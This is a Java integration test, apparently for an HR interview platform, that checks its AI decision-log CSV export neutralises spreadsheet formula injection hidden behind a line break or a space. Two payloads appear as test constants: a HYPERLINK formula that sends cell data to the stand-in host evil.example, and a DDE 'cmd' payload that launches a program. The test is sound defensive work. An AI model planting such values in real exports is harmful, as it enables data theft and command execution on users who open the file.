package io.renloop.interview.web;

import static io.renloop.support.DemoData.DEMO;
import static org.assertj.core.api.Assertions.assertThat;

import io.renloop.interview.InterviewSessionFixtures;
import io.renloop.support.ApiClient;
import io.renloop.support.DemoData;
import io.renloop.support.RenloopIntegrationTest;
import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Security finding "formula injection survives the AI decision-log CSV when the cell has a line break": a
 * dimension name that hides a formula behind a line break or a space is exported with a leading apostrophe.
 */
@RenloopIntegrationTest
class DecisionLogFormulaInjectionTests {

	static final String BEHIND_A_LINE_BREAK = "\n=HYPERLINK(\"http://evil.example/?\"&A1,\"安全意识\")";

	static final String BEHIND_A_SPACE = " =cmd|' /C calc'!A0";

	@LocalServerPort
	int port;

	@Autowired
	JdbcTemplate jdbc;

	@Test
	void dimensionsThatHideAFormulaAreNeutralisedInTheCsv() throws IOException {
		InterviewSessionFixtures fixtures = new InterviewSessionFixtures(port, "hr@demo.example",
				new DemoData(jdbc).departmentId(DEMO, "MINING"))
			.withPlan();
		String sessionId = submittedInterview(fixtures);
		dimensionOf(sessionId, fixtures.gasQuestion, BEHIND_A_LINE_BREAK);
		dimensionOf(sessionId, fixtures.starQuestion, BEHIND_A_SPACE);

		ApiClient.Response csv = ApiClient.as(port, "hr@demo.example").get("/api/v1/ai-interviews/decision-log?format=csv");

		assertThat(csv.status()).as(csv.body()).isEqualTo(200);
		assertThat(csv.contentType()).startsWith("text/csv");
		List<CSVRecord> records = CSVFormat.DEFAULT.builder()
			.setHeader()
			.get()
			.parse(new StringReader(csv.body().substring(1)))
			.getRecords();
		List<String> dimensions = records.stream()
			.filter(r -> r.get("sessionId").equals(sessionId))
			.map(r -> r.get("dimension"))
			.toList();
		assertThat(dimensions).containsExactlyInAnyOrder("'" + BEHIND_A_LINE_BREAK, "'" + BEHIND_A_SPACE);
		assertThat(records).allSatisfy(record -> assertThat(record.toList())
			.noneMatch(cell -> cell.matches("(?s)^(?:[\\t\\r]|\\s*[=+\\-@]).*")));
	}

	private String submittedInterview(InterviewSessionFixtures fixtures) {
		String api = "/api/v1/candidate-interview/" + fixtures.startInterview();
		ApiClient candidate = ApiClient.anonymous(port);
		candidate.post(api + "/consent", null);
		candidate.post(api + "/answers", Map.of("questionId", fixtures.gasQuestion, "text", "立即停止作业，撤离并报告调度室。"));
		ApiClient.Response submitted = candidate.post(api + "/submit", null);
		assertThat(submitted.status()).as(submitted.body()).isEqualTo(200);
		return submitted.json().get("sessionId").asString();
	}

	/** A dimension as a tenant could type it into the question bank, set where the log reads it. */
	private void dimensionOf(String sessionId, String questionId, String dimension) {
		assertThat(jdbc.update("update interview.session_answer set dimension = ? where session_id = ?::uuid "
				+ "and question_id = ?::uuid", dimension, sessionId, questionId)).isEqualTo(1);
	}
}
